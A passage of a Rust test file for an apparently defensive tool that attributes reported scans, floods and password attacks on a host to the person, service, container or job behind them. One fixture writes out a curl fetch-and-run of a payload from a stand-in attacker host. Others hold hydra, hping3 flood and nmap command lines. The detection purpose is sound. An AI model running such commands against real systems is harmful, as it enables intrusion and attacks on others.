//! Where things come from: sudo and su, cron, containers, SSM, services, and what somebody else did.

use gumshoe::case::Activity as Accusation;
use gumshoe::case::Confidence;
use gumshoe::case::DoubtKind;
use gumshoe::case::Entry;
use gumshoe::report;
use history::Direction;
use history::FlowState;
use history::OperationKind;
use history::Protocol;
use history::Via;

use super::check::doubts;
use super::check::everything_holds;
use super::story::*;
use super::told::told;

const NMAP: &str = "nmap -sS 198.51.100.7";

#[test]
fn su_keeps_the_person_too() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let su = story.run(shell, 70, ROOT, "/usr/bin/su", "su -");
    let root_shell = story.run(su, 72, ROOT, "/usr/bin/bash", "-bash");
    let nmap = story.run(root_shell, 120, ROOT, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    let report = report_of(&story, accused(120, 180));
    told(&report, "a scan in a root shell that su began", "the person is who logged in");
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
    assert_eq!(report.facts.elevated_by.as_ref().unwrap().raw(), "su");
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

#[test]
fn without_a_login_uid_the_login_tells_the_person() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    for process in &mut story.processes {
        process.credentials.login_uid = None;
        process.credentials.session = None;
        process.login_user = None;
    }
    let report = report_of(&story, accused(120, 180));
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
    assert_eq!(report.judgement.suspects[0].person.as_ref().unwrap().known_by, "login");
    assert_eq!(report.facts.confidence, Confidence::High);
}

#[test]
fn a_login_user_that_root_made_up_on_the_way_names_nobody_else() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    // echo 1001 >/proc/self/loginuid
    let forged = story.of(nmap);
    (forged.credentials.login_uid, forged.credentials.session) = (Some(1001), Some(99));
    forged.login_user = Some("bob".to_owned());
    let report = report_of(&story, accused(120, 180));
    told(&report, "a scan whose kernel's login user was changed by root", "the person is who logged in");
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
    assert_eq!(doubts(&report), [DoubtKind::PersonConflict]);
    assert!(report::text(&report).contains("changed to bob on the way"), "{}", report::text(&report));
    everything_holds(&report);
}

#[test]
fn who_started_a_server_of_logins_by_hand_is_not_who_it_lets_in() {
    let mut story = Story::new();
    // Alice starts an sshd that sets no login user; bob comes in by it.
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let listener = story.sudo(shell, 70, "/usr/sbin/sshd", "/usr/sbin/sshd -f own");
    let (login_uid, session) =
        (story.of(listener).credentials.login_uid, story.of(listener).credentials.session);
    let inner = story.ssh(BOB, "192.0.2.99", 90);
    let server = story.of(inner).parent.unwrap();
    let monitor = story.of(server).parent.unwrap();
    story.of(monitor).parent = Some(listener);
    let nmap = story.run(inner, 120, BOB, "/usr/bin/nmap", NMAP);
    for id in [monitor, server, inner, nmap] {
        let process = story.of(id);
        (process.credentials.login_uid, process.credentials.session) = (login_uid, session);
        process.login_user = Some("alice".to_owned());
    }
    story.raw_scan(nmap, 121, 134, Via::Packet);
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "a scan in a session that a server let in which another had started by hand",
        "who came in",
    );
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "bob");
    assert_eq!(report.judgement.suspects[0].person.as_ref().unwrap().known_by, "login");
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

#[test]
fn what_a_server_runs_for_itself_while_it_lets_somebody_in_is_nobodys() {
    for (user, runs) in [(ROOT, "a script of PAM"), (User(65_534, "nobody"), "a program that knows keys")] {
        let mut story = Story::new();
        let shell = story.ssh(ALICE, LAPTOP, 60);
        let session = story.of(shell).parent.unwrap();
        let monitor = story.of(session).parent.unwrap();
        let script = story.run(monitor, 61, user, "/usr/bin/dash", "/bin/sh /usr/local/bin/notify");
        let nmap = story.run(script, 120, user, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
        for id in [script, nmap] {
            story.of(id).credentials.login_uid = Some(1000);
            story.of(id).login_user = Some("alice".to_owned());
        }
        story.raw_scan(nmap, 121, 134, Via::Socket);
        story.activities.last_mut().unwrap().states = vec![(FlowState::Refused, 1000)];
        let report = report_of(&story, accused(120, 180));
        assert_eq!(report.facts.person, None, "{runs}");
        assert_eq!(report.facts.entry, "login", "{runs}");
        let text = report::text(&report);
        assert!(text.contains("sshd ran it for itself") && text.contains("let alice in"), "{text}");
        everything_holds(&report);
    }
}

#[test]
fn who_logged_in_from_the_host_to_itself_is_who_was_there_before() {
    // Its loopback address, and the two that it has as an instance; and somebody else's.
    for (from, is_own) in [("127.0.0.1", true), ("10.0.0.5", true), ("203.0.113.10", true), (LAPTOP, false)] {
        for opener in [Some("alice"), None] {
            let mut story = Story::new();
            let shell = story.ssh(ALICE, LAPTOP, 60);
            story.run(shell, 89, ALICE, "/usr/bin/ssh", "ssh -i key bob@127.0.0.1");
            let inner = story.ssh(BOB, from, 90);
            story.logins.last_mut().unwrap().login.by = opener.map(str::to_owned);
            let nmap = story.run(inner, 120, BOB, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
            story.raw_scan(nmap, 121, 134, Via::Socket);
            story.activities.last_mut().unwrap().states = vec![(FlowState::Refused, 1000)];
            let report = report_of(&story, accused(120, 180));
            let known_by =
                report.judgement.suspects[0].person.as_ref().map(|person| person.known_by.as_str());
            let person = report.facts.person.as_ref().map(|person| person.raw());
            let expected = if opener.is_some() { ("alice", "opener") } else { ("bob", "login_uid") };
            assert_eq!(person.zip(known_by), Some(expected));
            let is_doubted = doubts(&report).contains(&DoubtKind::EntryUnknown);
            assert_eq!(is_doubted, is_own && opener.is_none(), "{from}: {:?}", report.judgement.doubts);
            everything_holds(&report);
        }
    }
}

/// A session's client that had a service start something.
fn client(service: &str, by: &str, user: &str, command: &str) -> history::Login {
    history::Login {
        service: service.to_owned(),
        user: user.to_owned(),
        method: history::Login::ATTACH.to_owned(),
        by: Some(by.to_owned()),
        command: Some(command.to_owned()),
        source_address: LAPTOP.parse().ok(),
        ..history::Login::default()
    }
}

#[test]
fn who_had_systemd_start_a_unit_is_named() {
    for serves in [false, true] {
        let mut story = Story::new();
        let shell = story.ssh(ALICE, LAPTOP, 60);
        story.sudo(shell, 119, "/usr/bin/systemd-run", &format!("systemd-run {NMAP}"));
        let nmap = story.service("run-u5.service", ROOT, "/usr/bin/nmap", NMAP);
        story.begun(nmap, 119, client("systemd-run", "alice", "root", &format!("systemd-run {NMAP}")));
        story.raw_scan(nmap, 121, 134, Via::Packet);
        if serves {
            let operation = history::Operation {
                process: Some(nmap),
                kind: OperationKind::Serves,
                detail: "/run/scan".to_owned(),
            };
            let event = story.event();
            story.operations.push(history::OperationEvent { event, time: at(100), operation });
        }
        let report = report_of(&story, accused(120, 180));
        assert_eq!(report.facts.entry, "unit");
        let person = report.facts.person.as_ref().map(|person| person.raw().to_owned());
        if serves {
            assert_eq!(person, None, "whoever may connect to it may have asked");
            continue;
        }
        told(&report, "a scan by a unit that a session had systemd-run start", "who had it started");
        assert_eq!(person.as_deref(), Some("alice"));
        assert_eq!(report.judgement.suspects[0].person.as_ref().unwrap().known_by, "asked");
        let text = report::text(&report);
        assert!(text.contains("alice, logged in from 192.0.2.10, called systemd-run"), "{text}");
        everything_holds(&report);
    }
}

#[test]
fn who_entered_a_container_is_told_from_who_else_did() {
    let id = "4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e";
    for also_bob in [false, true] {
        let mut story = Story::new();
        let shim = story.service("containerd.service", ROOT, "/usr/bin/containerd-shim-runc-v2", "shim");
        let shell = story.run(shim, 100, ROOT, "/usr/bin/bash", "bash");
        story.of(shell).cgroup = format!("/system.slice/docker-{id}.scope");
        story.begun(shell, 100, client("docker", "alice", "root", "docker exec -it web bash"));
        if also_bob {
            story.begun(shell, 100, client("docker", "bob", "root", "docker exec -it web bash"));
        }
        let nmap = story.run(shell, 120, ROOT, "/usr/bin/nmap", NMAP);
        story.raw_scan(nmap, 121, 134, Via::Packet);
        let report = report_of(&story, accused(120, 180));
        assert_eq!(report.facts.entry, "container");
        let person = report.facts.person.as_ref().map(|person| person.raw().to_owned());
        if also_bob {
            assert_eq!(person, None, "either of them");
            continue;
        }
        told(&report, "a scan in a container that a session entered by docker exec", "who entered it");
        assert_eq!(person.as_deref(), Some("alice"));
        everything_holds(&report);
    }
}

#[test]
fn who_used_a_containers_terminal_is_a_doubt_and_had_nothing_started() {
    let id = "4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e";
    for (started_by, attached_by, at, doubted) in [
        (Some("alice"), "bob", 110, true),
        (Some("alice"), "alice", 110, false),
        (Some("alice"), "bob", 130, false),
        (None, "bob", 110, true),
    ] {
        let mut story = Story::new();
        let shim = story.service("containerd.service", ROOT, "/usr/bin/containerd-shim-runc-v2", "shim");
        let shell = story.run(shim, 100, ROOT, "/usr/bin/bash", "bash");
        story.of(shell).cgroup = format!("/system.slice/docker-{id}.scope");
        if let Some(by) = started_by {
            story.begun(shell, 100, client("docker", by, "root", "docker run -dit tools bash"));
        }
        story.begun(shell, at, client("docker", attached_by, "root", "docker attach web"));
        let nmap = story.run(shell, 120, ROOT, "/usr/bin/nmap", NMAP);
        story.raw_scan(nmap, 121, 134, Via::Packet);
        let report = report_of(&story, accused(120, 180));
        assert_eq!(report.facts.person.as_ref().map(|person| person.raw()), started_by);
        let is_told = doubts(&report).contains(&DoubtKind::SeveralSuspects);
        assert_eq!(is_told, doubted, "{started_by:?} {at}: {:?}", report.judgement.doubts);
        everything_holds(&report);
    }
}

#[test]
fn who_had_a_container_started_long_ago_is_doubted_unless_somebody_types_in_it() {
    let id = "4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e";
    for (started, typed, is_doubted) in [(-900, false, true), (-900, true, false), (100, false, false)] {
        let mut story = Story::new();
        let shim = story.service("containerd.service", ROOT, "/usr/bin/containerd-shim-runc-v2", "shim");
        let app = story.run(shim, started, ROOT, "/usr/bin/node", "node app.js");
        story.begun(app, started, client("docker", "alice", "root", "docker run -d web"));
        // Its worker is younger.
        let worker = story.run(app, started.max(90), ROOT, "/usr/bin/bash", "bash");
        let nmap = story.run(worker, 120, ROOT, "/usr/bin/nmap", NMAP);
        for process in [app, worker, nmap] {
            story.of(process).cgroup = format!("/system.slice/docker-{id}.scope");
            story.of(process).tty = typed.then(|| "pts/0".to_owned());
        }
        story.raw_scan(nmap, 121, 134, Via::Packet);
        let report = report_of(&story, accused(120, 180));
        assert_eq!(report.facts.person.as_ref().map(|person| person.raw()), Some("alice"));
        let is_told = doubts(&report).contains(&DoubtKind::AskedByOthers);
        assert_eq!(is_told, is_doubted, "{started} {typed}: {:?}", report.judgement.doubts);
        everything_holds(&report);
    }
}

#[test]
fn who_had_a_daemon_of_jobs_run_by_hand_is_behind_roots_jobs_and_not_behind_others() {
    for (user, person) in [(ROOT, "alice"), (BOB, "bob")] {
        let mut story = Story::new();
        let shell = story.ssh(ALICE, LAPTOP, 60);
        let daemon = story.sudo(shell, 70, "/usr/sbin/anacron", "anacron -f -n -t own");
        let child = story.run(daemon, 119, ROOT, "/usr/sbin/anacron", "anacron -f -n -t own");
        let job = story.run(child, 119, user, "/usr/bin/dash", "/bin/sh -c scan");
        let login = history::Login {
            service: "anacron".to_owned(),
            user: user.1.to_owned(),
            method: "anacrontab".to_owned(),
            ..history::Login::default()
        };
        story.begun(child, 119, login);
        let nmap = story.run(job, 120, user, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
        story.raw_scan(nmap, 121, 134, Via::Socket);
        story.activities.last_mut().unwrap().states = vec![(FlowState::Refused, 1000)];
        let report = report_of(&story, accused(120, 180));
        assert_eq!(report.facts.entry, "cron");
        assert_eq!(report.facts.person.as_ref().unwrap().raw(), person);
        assert_eq!(doubts(&report), [DoubtKind::AskedByOthers], "{}", report::text(&report));
        assert!(report::text(&report).contains("by hand in a session of alice"));
        everything_holds(&report);
    }
}

#[test]
fn who_may_have_queued_a_job_of_another_s_is_said() {
    let mut story = Story::new();
    let daemon = story.service("atd.service", ROOT, "/usr/sbin/atd", "/usr/sbin/atd -f");
    let child = story.run(daemon, 119, ROOT, "/usr/sbin/atd", "/usr/sbin/atd -f");
    let shell = story.run(child, 119, BOB, "/usr/bin/dash", "sh");
    let job = history::Login {
        service: "at".to_owned(),
        user: "bob".to_owned(),
        method: "at".to_owned(),
        ..history::Login::default()
    };
    story.begun(child, 119, job);
    story.begun(child, 119, client("at", "alice", "bob", "at now"));
    let nmap = story.run(shell, 120, BOB, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
    story.raw_scan(nmap, 121, 134, Via::Socket);
    story.activities.last_mut().unwrap().states = vec![(FlowState::Refused, 1000)];
    let report = report_of(&story, accused(120, 180));
    told(&report, "a scan in a job of one user for whom another called at", "the job's user, less surely");
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "bob");
    assert_eq!(doubts(&report), [DoubtKind::AskedByOthers]);
    let text = report::text(&report);
    assert!(
        text.contains("alice, logged in from 192.0.2.10, called at (at now), and may have queued"),
        "{text}"
    );
    everything_holds(&report);
}

#[test]
fn a_sudo_that_becomes_its_program_is_still_seen() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
    let sudo = story.of(nmap).parent.unwrap();
    // Without a pty sudo executes the program in its own process.
    let mut image = sudo;
    image.exec = 2;
    let process = story.of(nmap);
    process.id = image;
    process.parent = Some(shell);
    story.raw_scan(image, 121, 134, Via::Packet);
    let report = report_of(&story, accused(120, 180));
    assert_eq!(report.facts.elevated_by.as_ref().unwrap().raw(), "sudo");
    assert_eq!(report.facts.argv.as_ref().unwrap().raw(), NMAP);
    assert_eq!(report.facts.confidence, Confidence::High);
}

#[test]
fn a_missing_link_is_named_and_the_session_number_bridges_it() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let other = story.run(shell, 65, ALICE, "/usr/bin/vim", "vim notes");
    let script = story.run(shell, 100, ALICE, "/home/alice/job", "./job");
    let nmap = story.sudo(script, 120, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    assert!(story.processes.iter().any(|process| process.id == other));
    story.processes.retain(|process| process.id != script);
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "a scan with a link of its chain missing",
        "the session's number bridges it, and the gap is named",
    );
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
    assert!(report.facts.login.is_some(), "joined by the session's number");
    assert!(!report.facts.chain_complete);
    assert_eq!(doubts(&report), [DoubtKind::ChainBroken]);
    assert_eq!(report.facts.confidence, Confidence::Medium);
    everything_holds(&report);
}

#[test]
fn with_nothing_known_above_it_nobody_is_named() {
    let mut story = Story::new();
    let init = story.init();
    let lost = story.run(init, 10, ROOT, "/usr/bin/bash", "bash");
    let nmap = story.run(lost, 120, ROOT, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    story.processes.retain(|process| process.id != lost);
    let report = report_of(&story, accused(120, 180));
    told(&report, "a scan with nothing known above its process", "nobody is named");
    assert_eq!(report.facts.person, None);
    assert_eq!(report.facts.entry, "unknown");
    assert_eq!(doubts(&report), [DoubtKind::ChainBroken, DoubtKind::EntryUnknown]);
    assert_eq!(report.facts.confidence, Confidence::Medium);
    assert!(!report::text(&report).contains("person is"), "nobody is named");
    everything_holds(&report);
}

#[test]
fn an_unknown_owner_is_not_guessed() {
    let mut story = Story::new();
    noise(&mut story);
    let ghost = story.init();
    story.raw_scan(ghost, 121, 134, Via::Packet);
    story.activities.last_mut().unwrap().process = None;
    let report = report_of(&story, accused(120, 180));
    told(&report, "a scan whose sender is not recorded", "nobody is named");
    assert_eq!(report.facts.argv, None);
    assert_eq!(report.facts.person, None);
    assert_eq!(report.facts.confidence, Confidence::Low);
    assert_eq!(doubts(&report), [DoubtKind::OwnerUnknown]);
    everything_holds(&report);
}

#[test]
fn cron_is_an_entry() {
    let mut story = Story::new();
    let cron = story.service("cron.service", ROOT, "/usr/sbin/cron", "/usr/sbin/cron -f");
    let child = story.run(cron, 119, ROOT, "/usr/sbin/cron", "/usr/sbin/CRON -f");
    let shell = story.run(child, 119, ALICE, "/usr/bin/dash", "/bin/sh -c /home/alice/check.sh");
    let nmap = story.run(shell, 120, ALICE, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
    story.raw_scan(nmap, 121, 134, Via::Socket);
    story.activities.last_mut().unwrap().states = vec![(FlowState::Refused, 1000)];
    let report = report_of(&story, accused(120, 180));
    told(&report, "a scan from a person's crontab", "the crontab's owner, and which line");
    assert_eq!(report.facts.entry, "cron");
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
    assert!(report.sentence.contains("cron started it: /home/alice/check.sh"), "{}", report.sentence);
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

#[test]
fn a_container_is_an_entry() {
    let id = "4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e";
    let mut story = Story::new();
    let shim =
        story.service("containerd.service", ROOT, "/usr/bin/containerd-shim-runc-v2", "containerd-shim");
    let main = story.run(shim, 0, ROOT, "/bin/sh", "sh /run.sh");
    story.of(main).cgroup = format!("/system.slice/docker-{id}.scope");
    let scanner = story.run(main, 120, ROOT, "/usr/bin/zmap", "zmap -p 22 198.51.100.0/24");
    story.raw_scan(scanner, 121, 134, Via::Packet);
    let activity = story.activities.last_mut().unwrap();
    (activity.addresses, activity.ports, activity.targets) = (256, 1, 256);
    (activity.matched, activity.matched_ports) = (1, 1);
    activity.port_ranges = vec![(22, 22)];
    let report = report_of(&story, accused(120, 180));
    told(&report, "zmap in a container", "the container is named; it has no person");
    assert_eq!(report.facts.tool.as_deref(), Some("zmap"));
    let Entry::Container { runtime, id: short, .. } = &report.judgement.suspects[0].entry else {
        panic!("{:?}", report.judgement.suspects[0].entry)
    };
    assert_eq!((runtime.as_str(), short.raw()), ("docker", &id[..12]));
    assert_eq!(report.facts.person, None);
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

#[test]
fn an_ssm_session_is_an_entry() {
    let mut story = Story::new();
    let agent =
        story.service("amazon-ssm-agent.service", ROOT, "/usr/bin/ssm-agent-worker", "ssm-agent-worker");
    let worker = story.run(
        agent,
        60,
        ROOT,
        "/usr/bin/ssm-session-worker",
        "ssm-session-worker alice-0a1b2c3d4e5f60718",
    );
    let shell = story.run(worker, 61, User(1001, "ssm-user"), "/usr/bin/bash", "sh");
    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "a scan through sudo in an SSM session",
        "the session's id names the person; its account is everybody's",
    );
    assert_eq!(report.facts.entry, "ssm_session");
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice", "ssm-user is everybody");
    assert!(report.sentence.contains("alice-0a1b2c3d4e5f60718"), "{}", report.sentence);
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

#[test]
fn an_exploited_web_application_is_a_compromise() {
    let mut story = Story::new();
    let nginx = story.service("app.service", WWW, "/usr/bin/python3.11", "python3 /srv/app/server.py");
    story.traffic(Some(nginx), -100, 1000, |activity| {
        activity.direction = Direction::In;
        activity.flows = 40;
        activity.address_sample = vec!["203.0.113.66".parse().unwrap()];
        activity.states = vec![(FlowState::Closed, 40)];
    });
    let shell =
        story.run(nginx, 100, WWW, "/usr/bin/dash", "sh -c curl http://evil.example/s -o /tmp/.s; /tmp/.s");
    let curl = story.run(shell, 101, WWW, "/usr/bin/curl", "curl http://evil.example/s -o /tmp/.s");
    story.traffic(Some(curl), 101, 102, |activity| {
        activity.address_sample = vec!["203.0.113.66".parse().unwrap()];
        activity.port_ranges = vec![(80, 80)];
    });
    let scanner = story.run(shell, 110, WWW, "memfd:s", "[kworker/0:1]");
    story.of(scanner).flags.exe_memfd = true;
    story.traffic(Some(scanner), 111, 300, |activity| {
        (activity.flows, activity.matched) = (4000, 20);
        (activity.addresses, activity.ports, activity.targets, activity.matched_ports) = (4000, 1, 4000, 1);
        activity.states = vec![(FlowState::TimedOut, 3900), (FlowState::Closed, 100)];
        activity.address_sample = vec![VICTIM.parse().unwrap()];
        activity.port_ranges = vec![(22, 22)];
    });
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "a web application is exploited and runs a scanner from memory",
        "memory, a shell below a service, a download",
    );
    assert_eq!(report.facts.verdict, "compromise");
    assert_eq!(report.facts.person, None, "no person stands behind a service");
    assert_eq!(report.facts.entry, "unit");
    let signs = &report.judgement.suspects[0].signs;
    assert!(signs.iter().any(|sign| sign.contains("memfd")), "{signs:?}");
    assert!(signs.iter().any(|sign| sign.contains("python3.11, which serves the network")), "{signs:?}");
    assert_eq!(report.routing, "security");
    assert_eq!(report.facts.confidence, Confidence::High);
    let text = report::text(&report);
    assert!(text.contains("hxxp://evil[.]example"), "{text}");
    everything_holds(&report);
    insta::assert_snapshot!("compromise_text", text);
}

/// A user's timers and services run without any login of that user (linger).
#[test]
fn what_a_users_own_manager_runs_is_not_of_the_last_login() {
    for (below, login_uid, shown) in [
        ("app.slice/backup.service", true, "backup.service"),
        ("app.slice/backup.service", false, "backup.service"),
        ("app.slice/run-r17.scope", false, "run-r17.scope"),
    ] {
        let mut story = Story::new();
        story.ssh(ALICE, LAPTOP, -60);
        let manager = story.service("user@1000.service", ALICE, "/usr/lib/systemd/systemd", "systemd --user");
        story.of(manager).cgroup = "/user.slice/user-1000.slice/user@1000.service/init.scope".to_owned();
        let job = story.run(manager, 110, ALICE, "/usr/bin/bash", "bash backup.sh");
        let nmap = story.run(job, 120, ALICE, "/usr/bin/nmap", "nmap -sS 198.51.100.7");
        for id in [manager, job, nmap] {
            let process = story.of(id);
            process.credentials.login_uid = login_uid.then_some(ALICE.0);
            process.login_user = login_uid.then(|| ALICE.1.to_owned());
            if id != manager {
                process.cgroup = format!("/user.slice/user-1000.slice/user@1000.service/{below}");
            }
        }
        story.raw_scan(nmap, 121, 134, Via::Packet);
        let report = report_of(&story, accused(120, 180));
        assert_eq!(report.facts.entry, "unit", "{}", report.sentence);
        assert_eq!(
            report.facts.person.as_ref().map(|person| person.raw()),
            Some("alice"),
            "{}",
            report.sentence
        );
        assert!(report.facts.login.is_none(), "{:?}", report.facts.login);
        let text = report::text(&report);
        assert!(text.contains(shown) && text.contains("by the own manager of alice"), "{text}");
        everything_holds(&report);
    }
}

#[test]
fn a_stolen_password_shows_beside_the_owners_session() {
    let mut story = Story::new();
    story.ssh(ALICE, LAPTOP, -500);
    for second in 0..12 {
        story.login("alice", "203.0.113.200", 20 + second, "password", None, false, None);
    }
    let shell = story.ssh_by(ALICE, "203.0.113.200", 60, "password", None);
    let nmap = story.sudo(shell, 120, "/tmp/n", "n -sS 198.51.100.7");
    story.raw_scan(nmap, 121, 134, Via::Packet);
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "a login by a guessed password beside the owner's session",
        "failures before it, a file in /tmp: few signs; the account is named, not the person",
    );
    assert_eq!(report.facts.login.as_ref().unwrap().source_address, Some("203.0.113.200".parse().unwrap()));
    assert_eq!(report.facts.verdict, "compromise");
    assert!(report.sentence.starts_with("Somebody with the account alice"), "{}", report.sentence);
    assert_eq!(report.facts.confidence, Confidence::Medium);
    let text = report::text(&report);
    assert!(text.contains("12 failed logins"), "{text}");
    assert!(text.contains("alice also logged in from 192.0.2.10"), "{text}");
    everything_holds(&report);
}

#[test]
fn forwarded_packets_are_not_the_hosts_own() {
    let mut story = Story::new();
    story.traffic(None, 121, 134, |activity| {
        activity.via = Via::Forwarded;
        (activity.flows, activity.matched, activity.packets) = (1000, 1000, 1000);
        (activity.ports, activity.targets, activity.matched_ports) = (1000, 1000, 1000);
        activity.address_sample = vec![VICTIM.parse().unwrap()];
        activity.port_ranges = vec![(1, 1000)];
        activity.local_addresses = vec!["172.17.0.2".parse().unwrap()];
    });
    let report = report_of(&story, accused(120, 180));
    told(&report, "a container's packets, forwarded", "no local socket");
    assert_eq!(report.facts.verdict, "forwarded");
    assert!(report::text(&report).contains("172.17.0.2"), "{}", report::text(&report));
    everything_holds(&report);
}

#[test]
fn a_memcached_that_answers_anybody_is_an_exposed_service() {
    let mut story = Story::new();
    let memcached =
        story.service("memcached.service", User(120, "memcache"), "/usr/bin/memcached", "memcached -U 11211");
    story.traffic(Some(memcached), 121, 700, |activity| {
        activity.protocol = Protocol::UDP;
        activity.direction = Direction::In;
        (activity.flows, activity.matched) = (500, 500);
        activity.matched_ports = 1;
        activity.bytes = 700_000_000;
        activity.bytes_received = 15_000;
        activity.address_sample = vec![VICTIM.parse().unwrap()];
        activity.port_ranges = vec![(80, 80)];
    });
    let mut claim = accused(120, 180);
    claim.activity = Accusation::Reflection;
    claim.remote[0].protocol = None;
    let report = report_of(&story, claim);
    told(
        &report,
        "memcached answers requests in the victim's name",
        "the other side began, far more bytes went out",
    );
    assert_eq!(report.facts.verdict, "exposed_service");
    assert_eq!(report.facts.program.as_ref().unwrap().raw(), "/usr/bin/memcached");
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

/// As the recorder tells of UDP: questions, with what was sent because of them.
#[test]
fn a_resolver_asked_in_the_victims_name_is_an_exposed_service() {
    let mut story = Story::new();
    let named = story.service("named.service", User(53, "bind"), "/usr/sbin/named", "named -f -u bind");
    story.traffic(Some(named), 121, 700, |activity| {
        activity.protocol = Protocol::UDP;
        activity.via = Via::Socket;
        activity.direction = Direction::In;
        (activity.flows, activity.matched) = (502, 500);
        (activity.addresses, activity.targets, activity.ports, activity.matched_ports) = (1, 500, 500, 500);
        activity.packets = 500_000;
        activity.address_sample = vec![VICTIM.parse().unwrap()];
        activity.port_ranges = vec![(10_000, 10_499)];
        activity.states = vec![(FlowState::Bound, 2), (FlowState::Received, 500)];
        (activity.bytes, activity.bytes_received) = (1_500_000_000, 30_000_000);
    });
    let mut claim = accused(120, 180);
    claim.activity = Accusation::Reflection;
    claim.remote[0].protocol = None;
    let report = report_of(&story, claim);
    told(
        &report,
        "a resolver answers questions in the victim's name",
        "the other side began, far more bytes went out",
    );
    assert_eq!(report.facts.verdict, "exposed_service", "{}", report::text(&report));
    assert_eq!(report.facts.program.as_ref().unwrap().raw(), "/usr/sbin/named");
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

/// A socket past the queues: nobody may be cleared by packets that were not seen.
#[test]
fn a_host_whose_packets_leave_unseen_is_not_cleared() {
    let mut story = Story::new();
    noise(&mut story);
    let tool =
        story.service("replay.service", User(0, "root"), "/usr/bin/tcpreplay", "tcpreplay -i eth0 x.pcap");
    story.operation(tool, 100, OperationKind::PacketBypass, "PACKET_QDISC_BYPASS");
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "a program sends past what is recorded, and nothing else matches",
        "nobody is cleared by packets that were not seen",
    );
    assert_ne!(report.facts.verdict, "not_this_host", "{}", report::text(&report));
    assert!(report::text(&report).contains("packets are not seen"), "{}", report::text(&report));
    let mut story = Story::new();
    noise(&mut story);
    let report = report_of(&story, accused(120, 180));
    assert_eq!(report.facts.verdict, "not_this_host");
}

#[test]
fn hydra_guesses_passwords() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let hydra =
        story.run(shell, 120, ALICE, "/usr/bin/hydra", "hydra -l root -P words.txt ssh://198.51.100.7");
    for _ in 0..16 {
        let worker =
            story.run(hydra, 121, ALICE, "/usr/bin/hydra", "hydra -l root -P words.txt ssh://198.51.100.7");
        story.traffic(Some(worker), 121, 300, |activity| {
            (activity.flows, activity.matched, activity.matched_ports) = (40, 40, 1);
            activity.states = vec![(FlowState::Closed, 40)];
            activity.bytes = 80_000;
            activity.address_sample = vec![VICTIM.parse().unwrap()];
            activity.port_ranges = vec![(22, 22)];
        });
    }
    let mut claim = accused(120, 180);
    claim.activity = Accusation::LoginAttack;
    let report = report_of(&story, claim);
    told(&report, "hydra with sixteen workers", "short connections to a login port");
    assert_eq!(report.facts.tool.as_deref(), Some("hydra"));
    assert_eq!(report.judgement.suspects.len(), 1, "workers are one suspect");
    assert_eq!(report.facts.targets.as_ref().unwrap().flows, 640);
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

#[test]
fn a_syn_flood_is_a_flood_and_no_scan() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let hping = story.sudo(shell, 120, "/usr/sbin/hping3", "hping3 -S --flood -p 80 198.51.100.7");
    story.raw_scan(hping, 121, 180, Via::RawIp);
    let activity = story.activities.last_mut().unwrap();
    (activity.flows, activity.matched, activity.packets) = (60_000, 60_000, 5_000_000);
    (activity.ports, activity.targets, activity.matched_ports) = (1, 1, 1);
    activity.port_ranges = vec![(80, 80)];
    let mut claim = accused(120, 180);
    claim.activity = Accusation::DenialOfService;
    let report = report_of(&story, claim);
    told(&report, "hping3 floods one port", "packets a second and a target");
